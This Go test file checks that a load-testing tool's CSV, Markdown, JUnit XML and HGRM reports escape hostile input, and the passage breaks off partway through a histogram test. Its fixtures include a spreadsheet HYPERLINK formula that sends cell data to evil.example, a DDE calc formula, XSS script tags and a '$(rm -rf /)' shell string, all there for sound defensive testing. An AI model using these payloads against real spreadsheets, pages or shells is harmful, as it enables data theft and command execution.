package reports

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"math"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/HdrHistogram/hdrhistogram-go"

	"github.com/stampede-dev/stampede/analyze"
	"github.com/stampede-dev/stampede/analyze/classify"
	"github.com/stampede-dev/stampede/analyze/contract"
	"github.com/stampede-dev/stampede/internal/golden"
	"github.com/stampede-dev/stampede/internal/junit"
	"github.com/stampede-dev/stampede/records"
)

// hostileTexts are strings a target may put in its error codes and
// messages, or an operator in a URL: formulas, Markdown and HTML, XML
// specials and characters XML cannot hold.
var hostileTexts = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(A1:A9)",
	"\t=1+1",
	"\r=1+1",
	"a|b||c",
	"`code` ``x``",
	"<script>alert(1)</script><img src=x onerror=alert(1)>",
	"**bold** _it_ ~~gone~~ $x^2$",
	"[click me](http://evil.example) ![img](http://evil.example/x.png)",
	"line one\nline two\r\nline three",
	"@here @org/security ping ops@example.com",
	"&lt;b&gt; &#124; \\| \\",
	"\x00nul\x1b[31mred\x07bell\ufffe\xff]]>",
	"\u202eevil\u200bzero",
}

// hostileFormatsRun is a run whose classes carry hostile codes, patterns
// and messages, and whose target, command and contract evidence are
// hostile too.
func hostileFormatsRun(t testing.TB) analyze.Run {
	t.Helper()
	s := analyze.NewSummary()
	t0 := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	for i, h := range hostileTexts {
		id := s.ImportClass(records.Class{Status: 400, Category: records.CatValidation, Code: h, Pattern: h, Message: h}, nil)
		for j := range i + 1 { // distinct counts: a fixed order
			s.Add(&records.Record{
				Seq: uint64(i*100 + j), Scheduled: t0.Add(time.Duration(i*100+j) * time.Millisecond),
				Latency: time.Duration(j+1) * time.Millisecond, Status: 400, ErrorCode: h, Class: id,
			})
		}
	}
	rule := contract.Rules[contract.RuleRetryAfterValid]
	var examples []contract.Example
	for _, i := range []int{8, 14, 10, 11, 0}[:contract.MaxExamples] {
		h := hostileTexts[i]
		examples = append(examples, contract.Example{At: t0, Status: 429, RetryAfter: h, RateLimit: h, Detail: h})
	}
	return analyze.Run{
		Summary:  s,
		Target:   "GET http://127.0.0.1:8080/" + strings.Join(hostileTexts, ""),
		Pacer:    "constant 10/s",
		Command:  []string{"stampede", "attack", hostileTexts[0], hostileTexts[14]},
		Start:    t0,
		Tool:     "stampede test",
		RunID:    hostileTexts[7],
		Contract: &contract.Report{Rules: []contract.RuleResult{{Rule: rule, Checked: 9, Violations: 7, Examples: examples}}},
	}
}

func renderFormat(t testing.TB, format func(w *bytes.Buffer) error) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := format(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func readCSVRows(t testing.TB, data []byte, header []string) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(data))
	rows, err := r.ReadAll() // also checks every row has the header's width
	if err != nil {
		t.Fatalf("CSV does not parse back: %v", err)
	}
	if len(rows) == 0 || strings.Join(rows[0], ",") != strings.Join(header, ",") {
		t.Fatalf("CSV header = %q; want %q", rows[0], header)
	}
	if !bytes.HasSuffix(data, []byte("\r\n")) || bytes.Count(data, []byte("\n")) != bytes.Count(data, []byte("\r\n")) {
		t.Errorf("CSV lines do not all end in CRLF")
	}
	return rows[1:]
}

// column returns the index of a column of header.
func csvColumn(t testing.TB, header []string, name string) int {
	t.Helper()
	for i, h := range header {
		if h == name {
			return i
		}
	}
	t.Fatalf("no column %q in %q", name, header)
	return -1
}

func parseCount(t testing.TB, s string) uint64 {
	t.Helper()
	n, err := strconv.ParseUint(s, 10, 64)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

// TestCSV checks the classes table: its golden file, that it parses back
// with a row per class in ClassStats order, and that the counts add up.
func TestCSV(t *testing.T) {
	run := timedRun(t)
	out := renderFormat(t, func(b *bytes.Buffer) error { return CSV(b, run) })
	golden.Check(t, "csv", out)

	rows := readCSVRows(t, out, csvColumns)
	stats := run.Summary.ClassStats()
	if len(rows) != len(stats) {
		t.Fatalf("%d rows; want one per class, %d", len(rows), len(stats))
	}
	idCol, countCol, shareCol := csvColumn(t, csvColumns, "class_id"), csvColumn(t, csvColumns, "count"), csvColumn(t, csvColumns, "share")
	var total uint64
	for i, row := range rows {
		if id := parseCount(t, row[idCol]); id != uint64(stats[i].Class.ID) {
			t.Errorf("row %d: class_id %d; want %d (ClassStats order)", i, id, stats[i].Class.ID)
		}
		n := parseCount(t, row[countCol])
		total += n
		if want := strconv.FormatFloat(float64(n)/float64(run.Summary.Requests), 'f', 6, 64); row[shareCol] != want {
			t.Errorf("row %d: share %s; want %s", i, row[shareCol], want)
		}
	}
	if total != run.Summary.Requests {
		t.Errorf("counts add up to %d; want %d requests", total, run.Summary.Requests)
	}
}

// TestCSVSeries checks the time series: its golden file, that it parses
// back, that the "all" rows add up to the requests and each class's rows
// to its count, and that rows go by time with "all" first.
func TestCSVSeries(t *testing.T) {
	run := timedRun(t)
	out := renderFormat(t, func(b *bytes.Buffer) error { return CSVSeries(b, run) })
	golden.Check(t, "csv", out)

	rows := readCSVRows(t, out, csvSeriesColumns)
	h := csvSeriesColumns
	startCol, secCol, widthCol, idCol, classCol, countCol := csvColumn(t, h, "start"), csvColumn(t, h, "second"), csvColumn(t, h, "width_s"), csvColumn(t, h, "class_id"), csvColumn(t, h, "class"), csvColumn(t, h, "count")
	var all uint64
	perClass := map[string]uint64{}
	var intervals int
	lastSecond := -1
	for i, row := range rows {
		sec := int(parseCount(t, row[secCol]))
		start, err := time.Parse(time.RFC3339, row[startCol])
		if err != nil || !start.Equal(run.Summary.Timeline.Start().Add(time.Duration(sec)*time.Second)) {
			t.Errorf("row %d: start %q (%v) does not match second %d", i, row[startCol], err, sec)
		}
		if row[widthCol] != "1" {
			t.Errorf("row %d: width_s %s; want 1", i, row[widthCol])
		}
		if row[classCol] == "all" {
			if row[idCol] != "" || sec != lastSecond+1 {
				t.Errorf("row %d: all row of class_id %q at second %d after %d; want no id, consecutive seconds", i, row[idCol], sec, lastSecond)
			}
			intervals++
			lastSecond = sec
			all += parseCount(t, row[countCol])
			continue
		}
		if sec != lastSecond {
			t.Errorf("row %d: class row at second %d after the all row of %d", i, sec, lastSecond)
		}
		perClass[row[idCol]] += parseCount(t, row[countCol])
	}
	if intervals != 30 || all != run.Summary.Requests {
		t.Errorf("%d all rows adding up to %d; want 30 adding up to %d", intervals, all, run.Summary.Requests)
	}
	stats := run.Summary.ClassStats()
	if len(perClass) != len(stats) {
		t.Errorf("rows of %d classes; want %d", len(perClass), len(stats))
	}
	for _, st := range stats {
		if got := perClass[strconv.Itoa(int(st.Class.ID))]; got != st.Count {
			t.Errorf("class %d (%s): rows add up to %d; want %d", st.Class.ID, seriesLabel(st.Class), got, st.Count)
		}
	}
}

func TestSeriesLabel(t *testing.T) {
	tests := []struct {
		class records.Class
		want  string
	}{
		{records.Class{Status: 200, Category: records.CatSuccess}, "200"},
		{records.Class{Status: 429, Code: "rate_limited", Category: records.CatRateLimit}, "429 rate_limited"},
		{records.Class{ErrorKind: records.ErrTimeout, Category: records.CatTimeout}, "timeout"},
		{records.Class{Status: 200, ErrorKind: records.ErrReset, Category: records.CatTransport}, "200 connection_reset"},
	}
	for _, tt := range tests {
		if got := seriesLabel(&classify.Class{Class: tt.class}); got != tt.want {
			t.Errorf("seriesLabel(%+v) = %q; want %q", tt.class, got, tt.want)
		}
	}
}

// TestCSVHostile: no cell starts a formula, and every text cell reads back
// as the target sent it, but for the apostrophe.
func TestCSVHostile(t *testing.T) {
	run := hostileFormatsRun(t)
	out := renderFormat(t, func(b *bytes.Buffer) error { return CSV(b, run) })
	rows := readCSVRows(t, out, csvColumns)
	if len(rows) != len(hostileTexts) {
		t.Fatalf("%d rows; want %d", len(rows), len(hostileTexts))
	}
	for _, row := range rows {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s: cell %q starts a formula", csvColumns[i], cell)
			}
		}
	}
	// Row i is the class of hostileTexts[len-1-i], the most frequent first.
	for i, row := range rows {
		want := csvReadBack(csvText(hostileTexts[len(hostileTexts)-1-i]))
		for _, name := range []string{"code", "pattern", "message"} {
			if cell := row[csvColumn(t, csvColumns, name)]; cell != want {
				t.Errorf("row %d: %s cell %q; want %q", i, name, cell, want)
			}
		}
	}
	series := renderFormat(t, func(b *bytes.Buffer) error { return CSVSeries(b, run) })
	for _, row := range readCSVRows(t, series, csvSeriesColumns) {
		if c := row[csvColumn(t, csvSeriesColumns, "class")]; c == "" || strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("class label %q", c)
		}
	}
}

func TestCSVText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"rate_limited", "rate_limited"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", " x"},
		{"\r=x", "' =x"},
		{"  -1", "'  -1"},
		{"a\x1b]0;t\x07\u202eb\nc\td", "a ]0;t  b\nc\td"},
		{"a=b", "a=b"},
		{"'=x", "'=x"},
		{"\xff=", "\uFFFD="},
	}
	for _, tt := range tests {
		if got := csvText(tt.in); got != tt.want {
			t.Errorf("csvText(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}

func TestMarkdown(t *testing.T) {
	out := renderFormat(t, func(b *bytes.Buffer) error { return Markdown(b, timedRun(t)) })
	golden.Check(t, "md", out)
	for _, want := range []string{"### ❌ stampede: FAIL — rate-limit contract: 3 violations: 1 retry-after-on-429, 1 retry-after-valid, 1 admitted-after-wait; transport failures 1.083 % &gt; 1 %", "| ❌ | retry-after-on-429 |", "| ⚠️ | headers-consistent |"} {
		if !bytes.Contains(out, []byte(want)) {
			t.Errorf("Markdown lacks %q", want)
		}
	}
	checkMarkdownTables(t, out)
}

// TestMarkdownNoContract: a run without contract checks has no contract
// section; with no reason to fail (its thresholds held), it passes.
func TestMarkdownNoContract(t *testing.T) {
	run := fixedRun(t)
	run.Thresholds = []analyze.Threshold{{Name: "latency.p99 < 1s", Expr: "latency.p99 < 1s", Pass: true, Measured: "98.047ms"}}
	out := renderFormat(t, func(b *bytes.Buffer) error { return Markdown(b, run) })
	golden.Check(t, "md", out)
	if !bytes.HasPrefix(out, []byte("### ✅ stampede: PASS\n")) || bytes.Contains(out, []byte("contract")) {
		t.Errorf("want a pass without contract section:\n%s", out)
	}
	checkMarkdownTables(t, out)
}

// TestMarkdownMoreClasses: past MarkdownClasses classes, the rest is
// counted under the table, after a blank line (a line right after a table
// would be one more row).
func TestMarkdownMoreClasses(t *testing.T) {
	run := hostileFormatsRun(t)
	out := string(renderFormat(t, func(b *bytes.Buffer) error { return Markdown(b, run) }))
	var n uint64
	for _, st := range run.Summary.ClassStats()[MarkdownClasses:] {
		n += st.Count
	}
	want := "|\n\n… and " + strconv.Itoa(len(hostileTexts)-MarkdownClasses) + " more classes (" + strconv.FormatUint(n, 10) + " requests)\n"
	if !strings.Contains(out, want) {
		t.Errorf("Markdown lacks %q:\n%s", want, out)
	}
}

// TestMarkdownHostile: text from the target cannot break a table, open
// HTML, a link or emphasis, nor mention anyone.
func TestMarkdownHostile(t *testing.T) {
	run := hostileFormatsRun(t)
	run.Contract.Rules[0].Examples[0].Detail = strings.Join(hostileTexts, " ")
	out := renderFormat(t, func(b *bytes.Buffer) error { return Markdown(b, run) })
	checkMarkdownTables(t, out)
	for _, bad := range []string{"<script", "<img", "**bold", "\x00", "\x1b", "\u202e", "@here", "@org", "@example"} {
		if bytes.Contains(out, []byte(bad)) {
			t.Errorf("Markdown contains %q:\n%s", bad, out)
		}
	}
	if link := regexp.MustCompile(`(^|[^\\])\]\(`).Find(out); link != nil {
		t.Errorf("Markdown contains a link %q:\n%s", link, out)
	}
	if !utf8.Valid(out) {
		t.Error("Markdown is not valid UTF-8")
	}
}

// checkMarkdownTables checks that every row of every table has as many
// cells as its header: no text broke out of its cell.
func checkMarkdownTables(t *testing.T, md []byte) {
	t.Helper()
	cells := func(line string) int {
		n := 0
		for i := 0; i < len(line); i++ {
			switch line[i] {
			case '\\':
				i++
			case '|':
				n++
			}
		}
		return n - 1
	}
	want := 0
	for i, line := range strings.Split(string(md), "\n") {
		switch {
		case !strings.HasPrefix(line, "|"):
			want = 0
		case want == 0:
			want = cells(line)
		case cells(line) != want || !strings.HasSuffix(line, " |") && !strings.HasSuffix(line, ":|") && !strings.HasSuffix(line, "-|"):
			t.Errorf("line %d has %d cells; want %d: %q", i+1, cells(line), want, line)
		}
	}
}

func TestMdEscape(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Rate limit exceeded. Retry in 60 s.", "Rate limit exceeded. Retry in 60 s."},
		{"a|b", `a\|b`},
		{"`x`", "\\`x\\`"},
		{"<b>&", "&lt;b&gt;&amp;"},
		{"*a* _b_ [c](d) ~e~ $f$", `\*a\* \_b\_ \[c\](d) \~e\~ \$f\$`},
		{`back\slash`, `back\\slash`},
		{"one\ntwo\r\tthree", "one two  three"},
		{"@team", "@\u2060team"},
		{"\u202eabc\u200b", "abc"},
		{"bad\xffbyte", "bad\uFFFDbyte"},
	}
	for _, tt := range tests {
		if got := mdEscape(tt.in); got != tt.want {
			t.Errorf("mdEscape(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}

// mdUnescape reverses mdEscape: the text a Markdown renderer shows.
func mdUnescape(s string) string {
	s = strings.ReplaceAll(s, "@\u2060", "@")
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		switch {
		case s[i] == '\\' && i+1 < len(s):
			i++
			b.WriteByte(s[i])
		case strings.HasPrefix(s[i:], "&amp;"):
			b.WriteByte('&')
			i += len("&amp;") - 1
		case strings.HasPrefix(s[i:], "&lt;"):
			b.WriteByte('<')
			i += len("&lt;") - 1
		case strings.HasPrefix(s[i:], "&gt;"):
			b.WriteByte('>')
			i += len("&gt;") - 1
		default:
			b.WriteByte(s[i])
		}
	}
	return b.String()
}

// FuzzMdEscape checks that escaped text is inert on one line: valid
// UTF-8, no line break, no Markdown or HTML character left unescaped,
// every @ defused, and that it shows the text as it was, control
// characters as spaces and format characters dropped.
func FuzzMdEscape(f *testing.F) {
	for _, h := range hostileTexts {
		f.Add(h)
	}
	f.Add(`\`)
	f.Add(`\\|`)
	f.Add("&amp;")
	f.Add("@\u2060")
	f.Fuzz(func(t *testing.T, s string) {
		out := mdEscape(s)
		if !utf8.ValidString(out) {
			t.Fatalf("mdEscape(%q) = %q: invalid UTF-8", s, out)
		}
		for i := 0; i < len(out); i++ {
			c := out[i]
			switch {
			case c == '\\':
				if i+1 >= len(out) || !strings.ContainsRune(`\|`+"`"+`*_[]~$`, rune(out[i+1])) {
					t.Fatalf("mdEscape(%q) = %q: stray backslash at %d", s, out, i)
				}
				i++
			case strings.ContainsRune("|`*_[]~$<>\n\r", rune(c)):
				t.Fatalf("mdEscape(%q) = %q: raw %q at %d", s, out, c, i)
			case c == '&' && !strings.HasPrefix(out[i:], "&amp;") && !strings.HasPrefix(out[i:], "&lt;") && !strings.HasPrefix(out[i:], "&gt;"):
				t.Fatalf("mdEscape(%q) = %q: raw & at %d", s, out, i)
			case c == '@' && !strings.HasPrefix(out[i:], "@\u2060"):
				t.Fatalf("mdEscape(%q) = %q: live @ at %d", s, out, i)
			}
		}
		want := strings.Map(func(r rune) rune {
			switch {
			case r == '\u2060': // a word joiner of the input goes, as every format character
				return -1
			case unicode.IsControl(r):
				return ' '
			case unicode.Is(unicode.Cf, r):
				return -1
			}
			return r
		}, strings.ToValidUTF8(s, "\uFFFD"))
		// ToValidUTF8 turns a run of bad bytes into one U+FFFD; mdEscape
		// one per byte: compare with the runs collapsed.
		collapse := func(s string) string {
			for strings.Contains(s, "\uFFFD\uFFFD") {
				s = strings.ReplaceAll(s, "\uFFFD\uFFFD", "\uFFFD")
			}
			return s
		}
		if got := mdUnescape(out); collapse(got) != collapse(want) {
			t.Fatalf("mdUnescape(mdEscape(%q)) = %q; want %q", s, got, want)
		}
	})
}

// csvReadBack returns what encoding/csv reads of a cell it wrote with
// UseCRLF: the writer drops a lone carriage return and writes a newline
// as CRLF, which the reader reads as a newline.
func csvReadBack(cell string) string {
	return strings.ReplaceAll(strings.ReplaceAll(cell, "\r\n", "\n"), "\r", "")
}

// FuzzCSVText checks that no cell starts a formula and that a cell reads
// back through encoding/csv as the text, apostrophe aside, with its
// control and format characters (but tab and newline) as spaces.
func FuzzCSVText(f *testing.F) {
	for _, h := range hostileTexts {
		f.Add(h)
	}
	f.Fuzz(func(t *testing.T, s string) {
		cell := csvText(s)
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Fatalf("csvText(%q) = %q starts a formula", s, cell)
		}
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		w.UseCRLF = true
		if err := w.Write([]string{cell, "x"}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		row, err := csv.NewReader(&b).Read()
		if err != nil {
			t.Fatalf("csvText(%q) = %q does not read back: %v", s, cell, err)
		}
		if want := csvReadBack(cell); len(row) != 2 || row[0] != want {
			t.Fatalf("csvText(%q) = %q reads back as %q", s, cell, row)
		}
		if text := csvPrintable(strings.ToValidUTF8(s, "\uFFFD")); strings.TrimPrefix(cell, "'") != text && cell != text {
			t.Fatalf("csvText(%q) = %q changes the text", s, cell)
		}
		if strings.ContainsFunc(cell, csvUnprintable) {
			t.Fatalf("csvText(%q) = %q holds a control or format character", s, cell)
		}
	})
}

// junitDoc is a JUnit XML report as a CI system reads it.
type junitDoc struct {
	XMLName  xml.Name `xml:"testsuites"`
	Tests    int      `xml:"tests,attr"`
	Failures int      `xml:"failures,attr"`
	Suites   []struct {
		Name       string `xml:"name,attr"`
		Tests      int    `xml:"tests,attr"`
		Failures   int    `xml:"failures,attr"`
		Errors     int    `xml:"errors,attr"`
		Skipped    int    `xml:"skipped,attr"`
		Time       string `xml:"time,attr"`
		Timestamp  string `xml:"timestamp,attr"`
		Properties []struct {
			Name  string `xml:"name,attr"`
			Value string `xml:"value,attr"`
		} `xml:"properties>property"`
		Cases []struct {
			Classname string `xml:"classname,attr"`
			Name      string `xml:"name,attr"`
			Time      string `xml:"time,attr"`
			Failure   *struct {
				Message string `xml:"message,attr"`
				Type    string `xml:"type,attr"`
				Body    string `xml:",chardata"`
			} `xml:"failure"`
			Skipped *struct {
				Message string `xml:"message,attr"`
			} `xml:"skipped"`
			SystemOut string `xml:"system-out"`
		} `xml:"testcase"`
	} `xml:"testsuite"`
}

func parseJUnit(t *testing.T, out []byte) junitDoc {
	t.Helper()
	if !bytes.HasPrefix(out, []byte(`<?xml version="1.0" encoding="UTF-8"?>`)) {
		t.Errorf("no XML declaration: %.60q", out)
	}
	var doc junitDoc
	if err := xml.Unmarshal(out, &doc); err != nil {
		t.Fatalf("JUnit XML does not parse back: %v\n%s", err, out)
	}
	if len(doc.Suites) != 1 {
		t.Fatalf("%d testsuites; want 1", len(doc.Suites))
	}
	// The counts of the suite and the root are those of the testcases.
	s := doc.Suites[0]
	var failures, skipped int
	for _, c := range s.Cases {
		if c.Failure != nil {
			failures++
		}
		if c.Skipped != nil {
			skipped++
		}
	}
	if s.Tests != len(s.Cases) || s.Failures != failures || s.Skipped != skipped || s.Errors != 0 || doc.Tests != s.Tests || doc.Failures != s.Failures {
		t.Errorf("counts: root %d/%d, suite tests %d failures %d errors %d skipped %d; testcases %d, %d failed, %d skipped",
			doc.Tests, doc.Failures, s.Tests, s.Failures, s.Errors, s.Skipped, len(s.Cases), failures, skipped)
	}
	return doc
}

// TestJUnit checks the golden file, and that the XML parses back with a
// testcase per rule: errors with violations failed, warnings with
// violations passed with their evidence, rules that checked nothing
// skipped, and the run's testcases passed.
func TestJUnit(t *testing.T) {
	run := timedRun(t)
	out := renderFormat(t, func(b *bytes.Buffer) error { return JUnit(b, run) })
	golden.Check(t, "xml", out)
	doc := parseJUnit(t, out)
	s := doc.Suites[0]
	if s.Name != "stampede: "+run.Target || s.Timestamp != "2026-11-23T12:00:00" || s.Time != junit.Seconds(run.Summary.Duration()) {
		t.Errorf("suite %q at %q for %q", s.Name, s.Timestamp, s.Time)
	}
	props := map[string]string{}
	for _, p := range s.Properties {
		props[p.Name] = p.Value
	}
	for _, name := range []string{"target", "pacer", "run_id", "tool", "command", "start"} {
		if props[name] == "" {
			t.Errorf("no property %q in %v", name, props)
		}
	}
	if want := "stampede attack --rate 40/s --duration 30s -H 'Authorization: [REDACTED]' 'http://127.0.0.1:8080/v1/items?api_key=REDACTED'"; props["command"] != want {
		t.Errorf("command = %q; want %q", props["command"], want)
	}

	rules := run.Contract.Rules
	ths := run.Verdict().Thresholds
	if len(s.Cases) != 2+len(rules)+len(ths) {
		t.Fatalf("%d testcases; want 2 + %d rules + %d thresholds", len(s.Cases), len(rules), len(ths))
	}
	for i, th := range ths { // the thresholds come last, each failing as the verdict says
		c := s.Cases[2+len(rules)+i]
		if c.Classname != "threshold" || c.Name != th.Name || (c.Failure == nil) != th.Pass {
			t.Errorf("testcase %+v for threshold %+v", c, th)
		}
		if c.Failure != nil && c.Failure.Message != th.Reason {
			t.Errorf("threshold failure %q; want the reason %q", c.Failure.Message, th.Reason)
		}
	}
	for _, c := range s.Cases[:2] {
		if c.Classname != "run" || c.Failure != nil || c.Skipped != nil {
			t.Errorf("run testcase %q: %+v; want passed", c.Name, c)
		}
	}
	var failed, skipped, warned int
	for i, r := range rules {
		c := s.Cases[2+i]
		if c.Classname != "rate-limit contract" || c.Name != r.Name+": "+r.Title || c.Time != "0.000" {
			t.Errorf("testcase %q.%q (%s) for rule %s", c.Classname, c.Name, c.Time, r.Name)
		}
		switch {
		case r.Checked == 0:
			skipped++
			if c.Skipped == nil || c.Skipped.Message != "no response to check" || c.Failure != nil {
				t.Errorf("%s checked nothing: %+v; want skipped", r.Name, c)
			}
		case r.Violations > 0 && r.Severity == contract.SeverityError:
			failed++
			want := strconv.FormatUint(r.Violations, 10) + " of " + strconv.FormatUint(r.Checked, 10) + " checked "
			if c.Failure == nil || c.Failure.Type != "error" || !strings.HasPrefix(c.Failure.Message, want) || !strings.Contains(c.Failure.Body, evidence(r.Examples[0])) {
				t.Errorf("%s: %+v; want a failure %q… with the examples", r.Name, c.Failure, want)
			}
		case r.Violations > 0:
			warned++
			if c.Failure != nil || !strings.Contains(c.SystemOut, evidence(r.Examples[0])) {
				t.Errorf("warning %s: %+v; want a pass with the evidence in system-out", r.Name, c)
			}
		default:
			if c.Failure != nil || c.Skipped != nil {
				t.Errorf("%s held: %+v; want passed", r.Name, c)
			}
		}
	}
	errs, _ := run.Contract.Violations()
	for _, c := range s.Cases {
		if c.Classname == "threshold" && c.Failure != nil {
			failed++ // the thresholds the contract's violations fail
		}
	}
	if failed != 5 || uint64(failed) > errs+2 || skipped == 0 || warned != 1 || s.Failures != failed || s.Skipped != skipped {
		t.Errorf("%d failed, %d skipped, %d warned; suite says %d failures, %d skipped", failed, skipped, warned, s.Failures, s.Skipped)
	}
}

// TestJUnitIncomplete: an interrupted run fails "completed" with every
// reason, an empty one fails "requests", and without contract checks
// there are only the run's testcases.
func TestJUnitIncomplete(t *testing.T) {
	run := timedRun(t)
	run.Contract, run.Interrupted, run.Unsent, run.Unanswered = nil, "SIGINT", 2, 3
	doc := parseJUnit(t, renderFormat(t, func(b *bytes.Buffer) error { return JUnit(b, run) }))
	cases := doc.Suites[0].Cases
	if len(cases) != 2+len(run.Verdict().Thresholds) || cases[0].Name != "completed" || cases[0].Failure == nil || cases[1].Failure != nil {
		t.Fatalf("testcases %+v; want completed failed, requests passed", cases)
	}
	want := "interrupted by SIGINT; 2 scheduled attempts were never sent: the generator fell behind; 3 attempts unanswered"
	if f := cases[0].Failure; f.Message != want || f.Type != "incomplete" {
		t.Errorf("failure %q of type %q; want %q", f.Message, f.Type, want)
	}

	empty := analyze.Run{Summary: analyze.NewSummary()}
	doc = parseJUnit(t, renderFormat(t, func(b *bytes.Buffer) error { return JUnit(b, empty) }))
	cases = doc.Suites[0].Cases
	if len(cases) != 2+len(empty.Verdict().Thresholds) || cases[0].Failure != nil || cases[1].Name != "requests" || cases[1].Failure == nil || doc.Suites[0].Timestamp != "" || len(doc.Suites[0].Properties) != 0 {
		t.Errorf("empty run: %+v; want completed passed, requests failed, no timestamp nor properties", doc.Suites[0])
	}
}

// TestJUnitHostile: XML specials are escaped and the characters XML 1.0
// forbids are gone, so the report parses and shows the rest of the text.
func TestJUnitHostile(t *testing.T) {
	run := hostileFormatsRun(t)
	out := renderFormat(t, func(b *bytes.Buffer) error { return JUnit(b, run) })
	doc := parseJUnit(t, out)
	for _, c := range []string{"\x00", "\x1b", "\x07", "\xff", "\ufffe"} {
		if bytes.Contains(out, []byte(c)) {
			t.Errorf("JUnit XML contains %q", c)
		}
	}
	// The target's <script> is text (escaped, or in CDATA), never an element.
	d := xml.NewDecoder(bytes.NewReader(out))
	for {
		tok, err := d.Token()
		if err != nil {
			break
		}
		if e, ok := tok.(xml.StartElement); ok && !strings.Contains(" testsuites testsuite properties property testcase failure skipped system-out ", " "+e.Name.Local+" ") {
			t.Errorf("JUnit XML has a <%s> element", e.Name.Local)
		}
	}
	s := doc.Suites[0]
	if !strings.HasPrefix(s.Name, "stampede: GET http://127.0.0.1:8080/=HYPERLINK(") || !strings.Contains(s.Name, "<script>alert(1)</script>") ||
		!strings.Contains(s.Name, "line one line two line three") || strings.ContainsAny(s.Name, "\n\x00\ufffe\u202e") {
		t.Errorf("suite name %q; want the target on one line, cleaned", s.Name)
	}
	f := s.Cases[2].Failure
	if f == nil || !strings.Contains(f.Body, "  2026-11-23T12:00:00.000Z 429: nul [31mred bell\uFFFD]]> [Retry-After: nul [31mred bell\uFFFD]]>] [ nul [31mred bell\uFFFD]]>]\n") || !strings.Contains(f.Body, "<script>alert(1)</script>") {
		t.Errorf("failure body does not show the evidence: %+v", f)
	}
}

func TestXMLText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain <&> text", "plain <&> text"},
		{"tab\tnl\ncr\r", "tab\tnl\ncr\r"},
		{"\x00\x01\x08\x0b\x0c\x1b\x7f", "\x7f"}, // DEL is allowed in XML 1.0
		{"a\xffb\xc3", "ab"},
		{"\ufffe\uffff\ufffd", "\ufffd"},
		{"\U0001F600 \ud7ff \ue000", "\U0001F600 \ud7ff \ue000"},
	}
	for _, tt := range tests {
		if got := xmlText(tt.in); got != tt.want {
			t.Errorf("xmlText(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}

// FuzzXMLText checks that any text, cleaned, survives an XML round trip
// in an attribute and in character data.
func FuzzXMLText(f *testing.F) {
	for _, h := range hostileTexts {
		f.Add(h)
	}
	f.Fuzz(func(t *testing.T, s string) {
		type doc struct {
			XMLName xml.Name `xml:"d"`
			Attr    string   `xml:"a,attr"`
			Text    string   `xml:",chardata"`
		}
		clean := xmlText(s)
		out, err := xml.Marshal(doc{Attr: clean, Text: clean})
		if err != nil {
			t.Fatal(err)
		}
		var back doc
		if err := xml.Unmarshal(out, &back); err != nil {
			t.Fatalf("xmlText(%q) = %q: %v", s, clean, err)
		}
		if back.Attr != clean || back.Text != clean { // encoding/xml writes \r as &#xD;: it stays
			t.Fatalf("xmlText(%q) = %q reads back as %q, %q", s, clean, back.Attr, back.Text)
		}
	})
}

func TestJUnitCommandLine(t *testing.T) {
	tests := []struct {
		args []string
		want string
	}{
		{[]string{"stampede", "attack", "--rate", "40/s", "http://h:8080/x"}, "stampede attack --rate 40/s http://h:8080/x"},
		{[]string{"http://h/x?a=b"}, "'http://h/x?a=b'"}, // ? is a glob
		{[]string{"-H", "Authorization: [REDACTED]"}, "-H 'Authorization: [REDACTED]'"},
		{[]string{"it's", ""}, `'it'\''s' ''`},
		{[]string{"$(rm -rf /)", "a;b", "*"}, `'$(rm -rf /)' 'a;b' '*'`},
	}
	for _, tt := range tests {
		if got := shellLine(tt.args); got != tt.want {
			t.Errorf("shellLine(%q) = %q; want %q", tt.args, got, tt.want)
		}
	}
}

func TestHGRM(t *testing.T) {
	h := timedRun(t).Summary.Latency
	out := renderFormat(t, func(b *bytes.Buffer) error { return HGRM(b, h) })
	golden.Check(t, "hgrm", out)
	checkHGRM(t, out, h)
	if !bytes.Contains(out, []byte(" 0.500000000000 ")) {
		t.Error("no row at the median")
	}
}

// TestHGRMTopClass writes the distribution of the most frequent class, as
// the CLI does for --class.
func TestHGRMTopClass(t *testing.T) {
	h := timedRun(t).Summary.ClassStats()[0].Latency
	out := renderFormat(t, func(b *bytes.Buffer) error { return HGRM(b, h) })
	golden.Check(t, "hgrm", out)
	checkHGRM(t, out, h)
	if !bytes.Contains(out, []byte(" 0.500000000000 ")) {
		t.Error("no row at the median")
	}
}

// TestHGRMSmall checks histograms of one value and of a few spread ones.
func TestHGRMSmall(t *testing.T) {
	for _, values := range [][]int64{{1}, {7, 7, 7}, {1, 10, 100, 1000, 10_000, 100_000, 1_000_000, int64(time.Hour / time.Microsecond)}} {
		h := analyze.NewLatencyHistogram()
		for _, v := range values {
			if err := h.RecordValue(v); err != nil {
				t.Fatal(err)
			}
		}
		checkHGRM(t, renderFormat(t, func(b *bytes.Buffer) error { return HGRM(b, h) }), h)
	}
}

// TestHGRMEmpty: an empty or nil histogram gives the header and footer,
// no row.
func TestHGRMEmpty(t *testing.T) {
	for _, h := range []*hdrhistogram.Histogram{analyze.NewLatencyHistogram(), nil} {
		out := string(renderFormat(t, func(b *bytes.Buffer) error { return HGRM(b, h) }))
